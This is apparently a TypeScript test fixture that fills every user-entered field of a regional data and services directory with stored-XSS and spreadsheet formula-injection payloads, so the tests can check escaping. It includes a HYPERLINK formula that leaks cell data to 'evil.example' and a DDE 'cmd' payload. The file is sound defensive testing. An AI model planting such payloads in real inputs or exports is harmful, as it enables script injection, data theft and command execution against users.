/**
 * A small data set whose every user-entered text field carries a script payload, for the stored-XSS
 * and formula-injection tests. Each payload sets window.__xss if it ever runs. To cover a new field,
 * add it to the source that feeds it below (and its page to PAGES in stored-xss.int.test.ts).
 */
export const XSS = {
  img: '<img src=x onerror=window.__xss=1>',
  svg: '"><svg onload=window.__xss=1>',
  script: '</script><script>window.__xss=1</script>',
  url: 'javascript:window.__xss=1',
} as const;

/** Leading characters a spreadsheet would run as a formula. */
export const FORMULA = {
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: '-2+3',
  at: '@SUM(1+1)',
} as const;

const square = (lon: number, lat: number) => ({
  type: 'Polygon',
  coordinates: [
    [
      [lon, lat],
      [lon + 0.2, lat],
      [lon + 0.2, lat + 0.2],
      [lon, lat + 0.2],
      [lon, lat],
    ],
  ],
});

/** Area names as the label of the areas shown on map, table, tooltip, profile and compare. */
export const AREA_NAMES = [`${XSS.img} Nordkreis`, `${XSS.svg} Südkreis`, `${FORMULA.hyperlink}`];

export const areasFile = {
  name: `${XSS.img}kreise.geojson`,
  text: JSON.stringify({
    type: 'FeatureCollection',
    features: AREA_NAMES.map((name, i) => ({
      type: 'Feature',
      properties: { KEY: `0100${i + 1}`, NAME: name },
      geometry: square(9 + i * 0.25, 54),
    })),
  }),
  mapping: {
    format: 'geojson',
    level: { id: 'kreis', name: `${XSS.svg} Kreise`, kind: 'administrative', sortOrder: 20 },
    key: { property: 'KEY', pad: 5 },
    name: { property: 'NAME' },
    validFrom: '2021-01-01',
  },
};

/** Two indicators (compare and scatter need two) with payloads in every text field. */
export const catalogueFile = {
  name: `${XSS.svg}katalog.yaml`,
  mapping: {
    format: 'catalogue',
    indicators: ['a', 'b'].map((suffix) => ({
      id: `xss_${suffix}`,
      name: `${XSS.img} Quote ${suffix}`,
      nameEn: `${XSS.svg} Rate ${suffix}`,
      topic: `${XSS.script} Thema`,
      description: `${XSS.svg} Beschreibung`,
      notes: `${XSS.script} Hinweis`,
      source: FORMULA.hyperlink,
      unit: `${XSS.img}%`,
      kind: 'count',
      polarity: 'higher_is_worse',
      updateCycle: `${XSS.img} jährlich`,
      referenceDate: `${XSS.svg} 31.12.`,
    })),
  },
};

export const valuesFile = {
  name: `${XSS.script}werte.csv`,
  text: 'Schlüssel;Jahr;A;B\n01001;2021;10;5\n01002;2021;20;7\n01003;2021;30;9\n01001;2022;12;6\n01002;2022;18;8\n01003;2022;33;4\n',
  mapping: {
    format: 'csv',
    level: 'kreis',
    area: { column: 'Schlüssel', pad: 5 },
    layout: 'wide',
    values: [
      { columns: '^A$', indicator: 'xss_a', period: { column: 'Jahr' } },
      { columns: '^B$', indicator: 'xss_b', period: { column: 'Jahr' } },
    ],
  },
};

/** One Wegweiser entry with payloads in every text field, a script URL as website. */
export const servicesFile = {
  name: `${XSS.img}dienste.geojson`,
  text: JSON.stringify({
    type: 'FeatureCollection',
    features: [
      {
        type: 'Feature',
        properties: {
          nr: 'X1',
          name: `${XSS.img} Beratungsstelle`,
          text: `${XSS.script} Beschreibung`,
          kosten: `${XSS.svg} kostenlos`,
          zeiten: `${XSS.img} Mo–Fr`,
          tel: '+49 30 1234',
          mail: `x@example.org${XSS.svg}`,
          person: `${XSS.script} Frau M.`,
          web: XSS.url,
          einrichtung: `${XSS.svg} Haus`,
          strasse: `${XSS.img} Weg`,
          hnr: `${XSS.svg}1`,
          plz: '24937',
          ort: `${XSS.script} Flensburg`,
          bezirk: `${XSS.img} Mitte`,
          traeger: `${XSS.svg} Träger`,
          dach: `${XSS.img} Verband`,
          traegerweb: XSS.url,
        },
        geometry: { type: 'Point', coordinates: [9.1, 54.1] },
      },
    ],
  }),
  mapping: {
    format: 'services',
    source: 'geojson',
    directory: {
      id: 'xss-quelle',
      name: `${XSS.img} Quelle`,
      attribution: `${XSS.svg} Vermerk`,
      url: 'https://example.org/quelle',
    },
    key: 'nr',
    lastVerified: { value: '2025-01-01' },
    service: {
      name: 'name',
      category: { value: 'care-counselling' },
      costs: 'kosten',
      openingHours: 'zeiten',
      phone: 'tel',
      email: 'mail',
      contactPerson: 'person',
      website: 'web',
      description: 'text',
    },
    facility: {
      name: 'einrichtung',
      street: 'strasse',
      houseNumber: 'hnr',
      postcode: 'plz',
      city: 'ort',
      district: 'bezirk',
    },
    provider: { name: 'traeger', umbrella: 'dach', website: 'traegerweb', kind: { value: 'non-profit' } },
  },
};

/** Everything in import order: name, content (catalogues have none: the mapping is the data), mapping. */
export const HOSTILE_IMPORTS: { name: string; text: string; mapping: unknown }[] = [
  areasFile,
  { ...catalogueFile, text: '' },
  valuesFile,
  servicesFile,
];

/** Names entered in the administration (organisation, user display name). */
export const HOSTILE_ACCOUNTS = {
  organisation: { id: 'xss-org', name: `${XSS.img} Träger`, kind: 'provider' },
  user: { login: 'xss-redaktion', displayName: `${XSS.svg} Redakteurin`, roles: ['provider_editor'] },
} as const;

/** A citizen's report through the Wegweiser's form: what the editorial queue shows. */
export const HOSTILE_REPORT = {
  message: `${XSS.script} Angebot fehlt hier`,
  name: `${XSS.img} Bürgerin`,
  email: '',
};
